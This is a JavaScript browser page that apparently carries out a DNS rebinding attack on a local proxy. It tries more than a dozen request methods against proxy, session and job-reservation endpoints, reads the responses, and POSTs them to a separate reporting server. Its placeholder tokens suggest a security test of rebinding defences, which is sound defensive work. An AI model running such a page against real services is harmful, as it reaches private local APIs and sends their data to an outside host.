// A page whose name comes to mean the proxy: what it sends goes there as to its own origin, and it may
// read every answer. It reports to another server, since its own is gone by then.

const given = Object.fromEntries(new URLSearchParams(location.search));
const API = "/api/external/jobs";
const BODY = '{"limit":1}';

const fetched = async (path, options) => {
  const answer = await fetch(path, options);
  return `${answer.status} ${await answer.text()}`;
};

const json = { "content-type": "application/json", "idempotency-key": "a" };

const framed = (name, make) => new Promise((resolve) => {
  const frame = Object.assign(document.createElement("iframe"), { name });
  frame.onload = () => {
    // The first document of a frame is empty.
    const text = frame.contentDocument?.body?.textContent;
    if (text !== "") resolve(text ?? null);
  };
  document.body.append(frame);
  make(frame);
});

const opened = (source) => new Promise((resolve) => {
  source.onopen = () => resolve("opened");
  source.onerror = () => resolve(null);
});

const attempts = {
  status: () => fetched("/proxy/status"),
  reservations: () => fetched("/proxy/reservations"),
  reload: () => fetched("/proxy/reload", { method: "POST" }),
  session: () => fetched("/api/external/auth/session", { method: "POST" }),
  list: () => fetched(`${API}/list`, { method: "POST", body: BODY }),
  reserve: () => fetched(`${API}/rebind/reserve`, { method: "POST", body: BODY, headers: json }),
  keepalive: () => fetched(`${API}/list`, { method: "POST", body: BODY, keepalive: true }),
  update: () => fetched(`${API}/rebind/workflow/a`, { method: "PUT", body: BODY, headers: json }),
  token: () => fetched(`${API}/list`, { method: "POST", headers: { authorization: "Bearer a" } }),
  beacon: async () => navigator.sendBeacon(`${API}/beacon/reserve`, BODY) && null,
  frame: () => framed("got", (frame) => { frame.src = "/proxy/status"; }),
  form: () => framed("posted", () => {
    const form = document.createElement("form");
    Object.assign(form, { method: "post", action: `${API}/form/reserve`, target: "posted" });
    document.body.append(form);
    form.submit();
  }),
  socket: () => opened(new WebSocket(`ws://${location.host}${API}/list`)),
  events: () => opened(new EventSource("/proxy/status")),
};

async function all() {
  await fetch(`${given.report}/go`);
  const found = {};
  for (const [name, run] of Object.entries(attempts)) {
    found[name] = await run().catch(() => null);
  }
  await fetch(`${given.report}/report`, { method: "POST", body: JSON.stringify(found) });
}
all();
